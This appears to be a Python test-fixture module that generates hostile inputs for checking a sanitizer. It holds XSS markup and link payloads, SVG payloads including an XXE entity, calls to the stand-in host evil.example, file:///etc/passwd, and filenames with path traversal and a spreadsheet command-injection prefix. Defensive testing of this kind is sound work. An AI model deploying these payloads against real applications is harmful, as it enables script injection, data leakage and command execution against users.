"""Hostile texts: each tries to run something or to make the browser ask somebody else."""

from __future__ import annotations

import base64
from itertools import product

HOST = "https://evil.example"
_RUN = "top.ran=1"
_MARKUP = (
    "<script>{run}</script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</template><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<img src=x onerror={run}>",
    '"><img src=x onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext></p><img src onerror={run}></math>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<base href=javascript:/a/+{run}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xss onanimationstart={run} style='animation-name:breathe'>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<%= {run} %>",
    "\u2028{run}\u2029",
    "\x00<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "＜script＞{run}＜/script＞",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<ScRiPt/x>{run}</sCrIpT>",
    "<p style=background:url({host}/a)>",
    "<link rel=stylesheet href={host}/a.css>",
    "<img src={host}/a.png>",
    "<script src={host}/a.js></script>",
    "<link rel=prefetch href={host}/a>",
    "<video poster={host}/a.png>",
    '<a ping="{host}/p" href="{host}" autofocus>x</a>',
    "<style>@import '{host}/a.css';</style>",
    "<style>*{{background:url({host}/b)}}</style>",
    "<table background={host}/a>",
    "<svg><image href={host}/a /></svg>",
    "<svg><use href={host}/a.svg#x /></svg>",
    "![x]({host}/a.png)",
    "[x](javascript:{run})",
    "\u202e<gpj.exe>{run}\u202c",
    "a" * 5000 + "<script>{run}</script>",
)
_LINKS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript://a.example/%0a{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{run}",
    "blob:{host}/a",
    "file:///etc/passwd",
    "//evil.example/a",
    "/\\evil.example",
    "https:evil.example",
    "https://user:pass@evil.example/",
    "https://bank.example@evil.example/",
    'https://evil.example/"onmouseover="{run}',
    "https://evil.example/'><script>{run}</script>",
    "https://evil.example/\u202egpj",
    "https://еvil.example/",
    "intent://scan/#Intent;scheme=x;end",
    "http://[::1",
    "https://",
    "#" + "x" * 900,
)
_PICTURES = (
    "<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='{host}/a.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{host}'/>"
    "</foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url({host}/a.css);</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:{run}'><rect width='99' height='99'/></a></svg>",
    "<?xml-stylesheet href='{host}/a.xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM '{host}/a'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><use href='{host}/a.svg#b'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><set attributeName='onload' to='{run}'/></svg>",
)


def _filled(text: str) -> str:
    return text.format(run=_RUN, host=HOST)


TEXTS = tuple(map(_filled, _MARKUP))
LINKS = tuple(map(_filled, _LINKS))
PICTURES = (
    *(f"data:image/svg+xml;base64,{base64.b64encode(_filled(text).encode()).decode()}" for text in _PICTURES),
    f"{HOST}/badge.png",
    f"{HOST}/badge.svg",
    "javascript:top.ran=1",
    'data:image/png;base64,AAAA" onerror="top.ran=1',
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=",
)
NAMES = tuple(
    f"{before}{text}{after}"
    for text, (before, after) in product(TEXTS[:40], (("", ".json"), ("../../", ".png"), ("=cmd|' /C '!A0,", ".zip")))
)
"""Names of files."""
COUNT = len(TEXTS) + len(LINKS) + len(PICTURES) + len(NAMES)
